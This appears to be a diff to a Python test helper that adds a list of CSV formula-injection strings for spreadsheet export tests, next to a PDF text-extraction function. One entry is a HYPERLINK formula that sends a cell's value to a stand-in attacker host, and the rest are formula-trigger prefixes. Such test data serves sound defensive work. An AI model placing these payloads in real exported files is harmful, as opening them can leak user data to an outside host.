@@ -50,3 +50,14 @@ def pdf_text(content: bytes) -> str:
     """All pages' text, whitespace collapsed."""
     reader = PdfReader(io.BytesIO(content))
     return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)
+
+
+# Text a spreadsheet would run as a formula (OWASP's CSV injection), for the export tests.
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
